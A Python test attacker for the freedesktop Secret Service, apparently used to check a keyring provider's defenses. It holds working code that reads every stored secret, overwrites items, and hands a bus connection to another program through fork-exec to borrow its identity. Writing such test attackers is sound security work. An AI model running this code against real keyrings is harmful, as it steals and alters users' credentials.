#!/usr/bin/python3
"""A same-user attacker on the freedesktop Secret Service, for the tests
(SecretServiceBorrowedIdentityTests) and for Benchmarks/attackers.py: whatever runs it — Debian's
python3, a copy nobody installed, python3 bind-mounted over /usr/bin/secret-tool in a private
namespace — it takes what the provider hands to the connection it speaks on.

    borrow_bus.py read
        Lists the default collection and reads every secret. One line per finding: "items N",
        "secret VALUE", or "refused ERROR-NAME: MESSAGE".
    borrow_bus.py take [--wait S] [--replace VALUE]
        Takes every item it can: lists them, asks the provider to unlock the locked ones (waiting at
        most S seconds, default 20, for a prompt nobody answers), reads every secret, then with
        --replace tries to replace each one (SetSecret, and CreateItem with the same attributes and
        replace=true). One JSON object per line: {"listed": label, "attributes": {...}},
        {"secret": label, "value": ...}, {"prompt": outcome}, {"set_secret": label},
        {"created": label, "item": path}, {"refused": error, "step": ...}.
    borrow_bus.py fork-exec [--keep] [--first] [--go FILE] [--take [--wait S] [--replace VALUE]] VICTIM [ARGUMENTS…]
        Connects to the bus, forks, and executes VICTIM in the connected process, its standard
        input a pipe nobody writes, so it waits there. The child speaks on the inherited
        connection once the parent runs VICTIM (and, with --go, once FILE exists) — `read`, or
        `take` with --take — then kills VICTIM. With --keep the connection's socket stays open
        across the exec (inheritable). With --first the connection speaks once before the fork —
        its first call, made by the program that runs this script — so the provider has
        identified it before VICTIM runs. The child says "borrowed" when VICTIM runs, and makes
        FILE.ready, before it waits for FILE.

Run with Debian's /usr/bin/python3 (python3-jeepney) and DBUS_SESSION_BUS_ADDRESS set.
"""
import json
import os
import signal
import sys
import time

from jeepney import DBusAddress, new_method_call
from jeepney.bus_messages import MatchRule, message_bus
from jeepney.io.blocking import open_dbus_connection
from jeepney.wrappers import DBusErrorResponse

SERVICE = "org.freedesktop.secrets"
ROOT = "/org/freedesktop/secrets"
LOGIN = "/org/freedesktop/secrets/collection/login"
SECRET = "org.freedesktop.Secret"
PROPERTIES = "org.freedesktop.DBus.Properties"


def call(connection, path, interface, method, signature=None, body=(), timeout=30):
    message = new_method_call(DBusAddress(path, bus_name=SERVICE, interface=interface), method, signature, body)
    reply = connection.send_and_get_reply(message, timeout=timeout)
    if reply.header.message_type.name == "error":
        raise DBusErrorResponse(reply)
    return reply.body


# MARK: read (the tests' attack): plain lines

def read_everything(connection):
    try:
        _, session = call(connection, ROOT, f"{SECRET}.Service", "OpenSession", "sv", ("plain", ("s", "")))
        (_, items), = call(connection, LOGIN, PROPERTIES, "Get", "ss", (f"{SECRET}.Collection", "Items"))
        print(f"items {len(items)}", flush=True)
        if items:
            secrets, = call(connection, ROOT, f"{SECRET}.Service", "GetSecrets", "aoo", (items, session))
            for _, (_, _, value, _) in secrets.items():
                print(f"secret {bytes(value).decode(errors='replace')}", flush=True)
    except DBusErrorResponse as error:
        print(f"refused {error.name}: {error.data[0] if error.data else ''}", flush=True)


# MARK: take (Benchmarks/attackers.py's attack): JSON lines

def say(**finding):
    print(json.dumps(finding), flush=True)


def refused(step, error):
    if isinstance(error, DBusErrorResponse):
        say(refused=error.name, message=str(error.data[0]) if error.data else "", step=step)
    else:
        say(refused=type(error).__name__, message=str(error), step=step)


def prompt(connection, path, wait):
    """Runs a prompt and waits for its Completed signal: the user's answer, or nobody's. A
    provider with nobody to ask may refuse the `Prompt` call itself (Tresor does)."""
    rule = MatchRule(type="signal", interface=f"{SECRET}.Prompt", member="Completed", path=path)
    connection.send_and_get_reply(message_bus.AddMatch(rule))
    with connection.filter(rule) as queue:
        try:
            call(connection, path, f"{SECRET}.Prompt", "Prompt", "s", ("",))
        except DBusErrorResponse as error:
            say(prompt="refused", refused=error.name, message=str(error.data[0]) if error.data else "")
            return
        try:
            signal_ = connection.recv_until_filtered(queue, timeout=wait)
        except TimeoutError:
            say(prompt="no answer", seconds=wait)
            return
    dismissed = signal_.body[0]
    say(prompt="dismissed" if dismissed else "completed")


def take(connection, wait, replacement):
    try:
        _, session = call(connection, ROOT, f"{SECRET}.Service", "OpenSession", "sv", ("plain", ("s", "")))
    except Exception as error:  # noqa: BLE001 — every refusal is a finding
        refused("OpenSession", error)
        return
    try:
        (collection,) = call(connection, ROOT, f"{SECRET}.Service", "ReadAlias", "s", ("default",))
        if collection == "/":
            (_, collections), = call(connection, ROOT, PROPERTIES, "Get", "ss", (f"{SECRET}.Service", "Collections"))
            collection = collections[0]
        (_, items), = call(connection, collection, PROPERTIES, "Get", "ss", (f"{SECRET}.Collection", "Items"))
    except Exception as error:  # noqa: BLE001
        refused("list", error)
        return
    labels, attributes = {}, {}
    for item in items:
        try:
            (_, labels[item]), = call(connection, item, PROPERTIES, "Get", "ss", (f"{SECRET}.Item", "Label"))
            (_, attributes[item]), = call(connection, item, PROPERTIES, "Get", "ss", (f"{SECRET}.Item", "Attributes"))
            say(listed=labels[item], attributes=attributes[item])
        except Exception as error:  # noqa: BLE001
            refused("list", error)
    items = list(labels)
    if not items:
        say(listed=None)
        return
    try:
        unlocked, prompt_path = call(connection, ROOT, f"{SECRET}.Service", "Unlock", "ao", (items,))
        if prompt_path != "/":
            prompt(connection, prompt_path, wait)
    except Exception as error:  # noqa: BLE001
        refused("Unlock", error)
    try:
        (secrets,) = call(connection, ROOT, f"{SECRET}.Service", "GetSecrets", "aoo", (items, session))
        for item, (_, _, value, _) in secrets.items():
            say(secret=labels.get(item, item), value=bytes(value).decode(errors="replace"))
    except Exception as error:  # noqa: BLE001
        refused("GetSecrets", error)
    if replacement is None:
        return
    value = (session, b"", replacement.encode(), "text/plain")
    for item in items:
        try:
            call(connection, item, f"{SECRET}.Item", "SetSecret", "(oayays)", (value,))
            say(set_secret=labels[item])
        except Exception as error:  # noqa: BLE001
            refused(f"SetSecret {labels[item]}", error)
        properties = {f"{SECRET}.Item.Label": ("s", labels[item]), f"{SECRET}.Item.Attributes": ("a{ss}", attributes[item])}
        try:
            made, prompt_path = call(connection, collection, f"{SECRET}.Collection", "CreateItem", "a{sv}(oayays)b", (properties, value, True))
            if prompt_path != "/":
                prompt(connection, prompt_path, wait)
            say(created=labels[item], item=made)
        except Exception as error:  # noqa: BLE001
            refused(f"CreateItem {labels[item]}", error)


# MARK: fork-exec

def fork_exec(victim, keep, first, go, speak, tell):
    """Connects, forks, executes `victim` in the connected process, and calls `speak(connection)`
    in the child once the victim runs — with `first`, in the connected process before the fork
    too; `tell(text)` reports what happened on the way."""
    connection = open_dbus_connection(bus="SESSION")
    if first:
        speak(connection)
    if keep:
        os.set_inheritable(connection.sock.fileno(), True)
    before = os.readlink("/proc/self/exe")
    stdin_read, stdin_write = os.pipe()
    parent = os.getpid()
    if os.fork() > 0:
        os.dup2(stdin_read, 0)
        os.close(stdin_write)
        os.execv(victim[0], victim)
    os.close(stdin_read)
    deadline = time.monotonic() + 90
    while os.readlink(f"/proc/{parent}/exe") == before:
        if time.monotonic() > deadline:
            tell("the parent never executed the victim")
            os.kill(parent, signal.SIGKILL)
            return 2
        time.sleep(0.01)
    tell(f"borrowed {os.readlink(f'/proc/{parent}/exe')}")
    if go:
        open(go + ".ready", "w").close()
        while not os.path.exists(go):
            if time.monotonic() > deadline + 60:
                tell("never told to go")
                os.kill(parent, signal.SIGKILL)
                return 2
            time.sleep(0.02)
    speak(connection)
    os.kill(parent, signal.SIGKILL)
    return 0


def options(arguments, flags, valued):
    """The leading --options of `arguments` (flags alone, valued with their value), and the rest."""
    found = {}
    while arguments and (arguments[0] in flags or arguments[0] in valued):
        option = arguments.pop(0)
        found[option] = arguments.pop(0) if option in valued else True
    return found, arguments


def main(arguments):
    command, arguments = (arguments[0], arguments[1:]) if arguments else ("", [])
    given, rest = options(list(arguments), {"--keep", "--first", "--take"}, {"--go", "--wait", "--replace"})
    wait, replacement = float(given.get("--wait", 20)), given.get("--replace")
    if command == "read" and not rest:
        read_everything(open_dbus_connection(bus="SESSION"))
        return 0
    if command == "take" and not rest:
        take(open_dbus_connection(bus="SESSION"), wait, replacement)
        return 0
    if command == "fork-exec" and rest:
        if given.get("--take"):
            def speak(connection):
                take(connection, wait, replacement)

            def tell(text):
                say(borrowed=text.removeprefix("borrowed ")) if text.startswith("borrowed ") else say(refused=text, step="exec")
        else:
            speak = read_everything

            def tell(text):
                print(text, flush=True)
        return fork_exec(rest, given.get("--keep", False), given.get("--first", False), given.get("--go"), speak, tell)
    raise SystemExit(__doc__)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
